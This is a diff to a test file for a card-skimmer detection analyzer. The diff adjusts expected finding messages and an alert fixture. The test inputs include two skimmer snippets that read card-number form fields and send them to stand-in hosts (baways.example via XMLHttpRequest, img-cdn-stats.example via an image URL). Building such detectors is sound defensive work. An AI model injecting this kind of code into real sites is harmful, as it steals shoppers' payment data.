@@ -22,7 +22,7 @@ const titles = (c: ScriptChange) => skimmerTraits.run(c).map((f) => `${f.severit
 describe('skimmer-traits analyzer', () => {
   it('calls an appended listener-and-send a skimmer', () => {
     const found = titles(change(`${LIB}\ndocument.getElementById("pay").addEventListener("mouseup", function () {\n  var x = new XMLHttpRequest(); x.open("POST", "https://baways.example/gateway/api"); x.send(JSON.stringify({ n: document.forms[0].cardnumber.value }));\n});`));
-    assert.ok(found.includes('critical: skimmer pattern: reads form input and sends it out'), found.join('\n'));
+    assert.ok(found.includes('critical: reads form input and sends it out (skimmer pattern)'), found.join('\n'));
     assert.ok(found.some((t) => t.includes('references baways.example, a host not seen before')));
     assert.ok(found.some((t) => t.includes('adds mouseup on #pay listener')), found.join('\n'));
   });
@@ -49,11 +49,11 @@ describe('runAnalyzers', () => {
     assert.ok(findings.length > 1);
   });
   it('raises the alert to its worst finding and explains it in the summary', () => {
-    const alert = { severity: 'medium', summary: 'Script x changed', details: {} } as PlannedAlert;
+    const alert = { type: 'script.changed', severity: 'medium', summary: 'Script x changed', details: {} } as PlannedAlert;
     const enriched = withFindings(alert, [{ analyzer: 'a', severity: 'critical', kind: 'exfiltration', title: 'skimmer pattern', detail: '' }]);
     assert.equal(enriched.severity, 'critical');
     assert.equal(enriched.summary, 'Script x changed; skimmer pattern');
-    assert.equal(enriched.details.changeSummary, 'The new code skimmer pattern.');
+    assert.equal(enriched.details.changeSummary, 'Compared with the approved version, the new code: skimmer pattern.');
     assert.equal(withFindings(alert, []).severity, 'medium');
   });
 });
@@ -114,7 +114,7 @@ describe('large scripts: the changed span alone', () => {
     const middle = bundle.indexOf('function f500(');
     const injected = `${bundle.slice(0, middle)}document.getElementById("card-number").addEventListener("change",function(e){new Image().src="https://img-cdn-stats.example/p?d="+btoa(e.target.value)});${bundle.slice(middle)}`;
     const found = titles(change(injected, bundle));
-    assert.ok(found.includes('critical: skimmer pattern: reads form input and sends it out'), found.join('\n'));
+    assert.ok(found.includes('critical: reads form input and sends it out (skimmer pattern)'), found.join('\n'));
     assert.ok(found.some((t) => t.includes('img-cdn-stats.example')));
     assert.ok(!found.some((t) => t.includes('api.shop.example')), 'a host the old version named is not new');
   });
